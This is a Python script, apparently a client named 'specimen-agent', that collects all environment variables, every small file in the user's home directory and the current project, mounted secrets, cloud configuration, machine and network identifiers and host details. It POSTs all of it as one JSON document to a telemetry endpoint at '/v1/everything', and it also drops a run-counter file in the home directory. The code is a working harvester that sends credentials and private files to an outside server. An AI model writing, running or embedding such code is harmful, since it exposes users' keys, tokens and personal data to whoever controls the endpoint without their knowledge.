"""Copies every surrounding that an ordinary program can read into one request."""

import glob
import json
import os
import platform
import pwd
import socket
import sys
import time

import _common


def text(path, limit=4096):
    try:
        with open(path, encoding="utf-8", errors="replace") as file:
            return file.read(limit)
    except OSError:
        return None


def texts(*patterns):
    paths = sorted(path for pattern in patterns for path in glob.glob(pattern))
    return {path: text(path) for path in paths if os.path.isfile(path)}


def tree(top):
    """Every small file below a folder, by its path from there."""
    found = {}
    for folder, names, files in os.walk(top):
        names.sort()
        names[:] = [name for name in names if name != "objects"]
        for name in sorted(files):
            path = os.path.join(folder, name)
            found[os.path.relpath(path, top)] = text(path, 512)
    return found


def field(path, name):
    for line in (text(path, 65536) or "").splitlines():
        key, _, value = line.partition(":")
        if key.strip() == name:
            return value.strip()
    return None


def size():
    try:
        return list(os.get_terminal_size(0))
    except OSError:
        return None


def remembered():
    """How often this client ran before in this home."""
    path = os.path.expanduser("~/.specimen-runs")
    runs = len((text(path) or "").splitlines())
    with open(path, "a", encoding="utf-8") as file:
        file.write("run\n")
    return runs


home = os.path.expanduser("~")
account = pwd.getpwuid(os.getuid())
project = tree(".")
dotfiles = {
    path: content
    for path, content in tree(home).items()
    if not path.startswith(os.path.relpath(os.getcwd(), home)) and path != ".specimen-runs"
}
document = {
    "variables": {name: os.environ[name] for name in sorted(os.environ) if name != "_"},
    "clock": {"year": time.gmtime().tm_year, "day": _common.date(), "weekday": time.strftime("%a", time.gmtime())},
    "zone": {"name": _common.zone(), "file": text("/etc/timezone")},
    "names": {
        "host": socket.gethostname(),
        "hosts": text("/etc/hosts"),
        "login": account.pw_name,
        "person": account.pw_gecos,
        "uid": os.getuid(),
        "home": account.pw_dir,
        "shell": account.pw_shell,
        "directory": os.getcwd(),
    },
    "machine": {
        "id": text("/etc/machine-id"),
        "bus": text("/var/lib/dbus/machine-id"),
        "cpus": os.cpu_count(),
        "usable": len(os.sched_getaffinity(0)),
        "model": field("/proc/cpuinfo", "model name"),
        "memory": field("/proc/meminfo", "MemTotal"),
        "pages": os.sysconf("SC_PHYS_PAGES"),
        "board": texts("/sys/class/dmi/id/*"),
    },
    "platform": {
        "kernel": [platform.release(), platform.version()],
        "told": text("/proc/version"),
        "release": texts("/etc/os-release", "/etc/*release", "/etc/*version", "/etc/issue"),
        "group": text("/proc/1/cgroup"),
        "marks": [path for path in ("/.dockerenv", "/run/.containerenv") if os.path.exists(path)],
        "mounted": texts("/run/*", "/run/secrets/*/*/*", "/var/lib/cloud/*", "/etc/cloud/*"),
    },
    "network": {
        "interfaces": sorted(name for _, name in socket.if_nameindex()),
        "macs": texts("/sys/class/net/*/address"),
        "six": sorted(line.split()[0] for line in (text("/proc/net/if_inet6") or "").splitlines()),
        "routes": text("/proc/net/route"),
        "resolvers": text("/etc/resolv.conf"),
    },
    "terminal": {"tty": [os.isatty(number) for number in (0, 1, 2)], "size": size()},
    "project": project,
    "home": dotfiles,
    "runs": remembered(),
    "session": _common.SESSION,
}
_common.exchange(
    "POST",
    _common.TELEMETRY + "/v1/everything",
    [("User-Agent", "specimen-agent/1.4.2"), ("Content-Type", "application/json")],
    json.dumps(document).encode(),
)
sys.exit(0)
